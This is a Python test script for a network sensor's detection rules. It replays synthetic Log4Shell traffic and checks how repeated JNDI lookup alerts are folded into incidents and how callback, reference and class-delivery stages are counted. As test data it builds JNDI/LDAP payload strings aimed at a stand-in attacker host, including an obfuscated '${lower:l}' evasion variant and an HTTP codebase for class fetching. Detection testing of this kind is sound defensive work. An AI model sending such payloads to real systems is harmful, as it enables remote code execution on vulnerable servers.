#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""folding.py SENSOR: what is seen again is told twice, with how often, and what only resembles it each time.

A scan of one text, a payload that makes five callbacks, and lookups that differ from one that was told in one thing: read with
one and two workers, with folding and without, and with no rule that would tell of repeats.
"""
import pathlib
import sys
import tempfile

import sensor as lab
from tale import EVIL, OTHER, Tale, VICTIM

NAME = "ldap://%s:1389/a" % EVIL
STORIES = ("-s", str(lab.TOP / "rules/incidents.rules"))
FOLDED = 1442253


def run(program, path, *extra):
    events = lab.events(lab.replay(program, path, extra=extra))
    return [event for event in events if event["event_type"] == "alert"]


def of_stage(alerts, stage, folded=False):
    return [a for a in alerts if lab.facts(a)["stage"] == stage and (a["alert"]["signature_id"] == FOLDED) == folded and
            (folded or not lab.is_story(a))]


def want(bad, what, found, wanted):
    if found != wanted:
        bad.append("%s: %r, not %r" % (what, found, wanted))


def scan(program, path, bad):
    """20 requests within 4 seconds, 20 more after the window: two windows, each told twice."""
    tale = Tale()
    for number in range(40):
        if number == 20:
            tale.wait(310)
        tale.lookup(NAME)
    tale.write(path)
    alerts = run(program, path, *STORIES)
    want(bad, "a scan, lookups", len(of_stage(alerts, "lookup")), 2)
    updates = of_stage(alerts, "lookup", folded=True)
    want(bad, "a scan, repeats", [lab.facts(a)["repeats"]["count"] for a in updates], [20, 20])
    ids = {lab.facts(a)["incident"]["id"] for a in alerts}
    want(bad, "a scan, incidents", len(ids), 1)
    for first, update in zip(of_stage(alerts, "lookup"), updates):
        repeats = lab.facts(update)["repeats"]
        want(bad, "the first one's flow", (repeats["flow_id"], repeats["packet"], repeats["first_seen"]),
             (first["flow_id"], first["pcap_cnt"], first["timestamp"]))
        want(bad, "the last one's time", repeats["last_seen"], update["timestamp"])
        want(bad, "the lookup", lab.facts(update)["lookup"], NAME)
    want(bad, "two workers", run(program, path, *STORIES, "--set", "workers=2"), alerts)
    off = run(program, path, *STORIES, "--set", "correlate.fold-window=0s")
    want(bad, "without a window", (len(of_stage(off, "lookup")), len(of_stage(off, "lookup", folded=True))), (40, 0))
    want(bad, "without a rule", len(of_stage(run(program, path), "lookup")), 40)


def callbacks(program, path, bad):
    """2.14.1 looks a name up once for each ${ of the message: five searches and answers, five classes."""
    tale = Tale()
    tale.lookup(NAME)
    for _ in range(5):
        tale.search(codebase="http://%s:8888/" % EVIL)
        tale.fetch()
    tale.write(path)
    alerts = run(program, path, *STORIES)
    for stage in ("callback", "reference", "class_delivery"):
        want(bad, "five callbacks, " + stage, len(of_stage(alerts, stage)), 1)
        updates = of_stage(alerts, stage, folded=True)
        want(bad, "five callbacks, repeats of " + stage, [lab.facts(a)["repeats"]["count"] for a in updates], [5])
        marks = {mark["stage"]: mark["count"] for mark in lab.facts(updates[0])["incident"]["stages"]} if updates else {}
        want(bad, "five callbacks, the stage " + stage, marks.get(stage), 5)
    stories = [a for a in alerts if lab.is_story(a) and a["alert"]["signature_id"] != FOLDED]
    want(bad, "five callbacks, verdicts", [lab.facts(a)["incident"]["verdict"] for a in stories], ["vulnerable", "delivered"])


def others(program, path, bad):
    """Each differs from the first in one thing, and is told."""
    tale = Tale()
    rows = [{}, {"victim": OTHER}, {"sender": "198.51.100.8"}, {"port": 8081}, {"header": "X-Other"}]
    for row in rows:
        tale.lookup(NAME, **row)
    texts = [NAME, "ldap://%s:1389/b" % EVIL, "ldap://%s:1390/a" % EVIL, "${jndi:${lower:l}dap://%s:1389/a}" % EVIL]
    for text in texts[1:]:
        tale.lookup(text)
    tale.write(path)
    alerts = run(program, path, *STORIES)
    want(bad, "others", len(of_stage(alerts, "lookup")), len(rows) + len(texts) - 1)
    want(bad, "others, repeats", len(of_stage(alerts, "lookup", folded=True)), 0)


def promoted(program, path, bad):
    """What promotes is told while its lookup is being folded, and the update knows of it."""
    tale = Tale()
    tale.lookup(NAME)
    tale.lookup(NAME)
    tale.refused()
    tale.write(path)
    alerts = run(program, path, *STORIES)
    verdicts = [(a["alert"]["signature_id"], lab.facts(a)["incident"]["verdict"]) for a in alerts]
    want(bad, "promoted", verdicts, [(1442200, "attempted"), (1442250, "vulnerable"), (FOLDED, "vulnerable")])
    want(bad, "promoted, the victim", lab.facts(alerts[-1])["incident"]["victim"], VICTIM)


def main():
    bad = []
    with tempfile.TemporaryDirectory() as folder:
        for story in (scan, callbacks, others, promoted):
            story(sys.argv[1], pathlib.Path(folder) / "fold.pcap", bad)
    if bad:
        sys.exit("\n".join(line[:600] for line in bad))
    print("repeats are told twice, others each time")


if __name__ == "__main__":
    main()
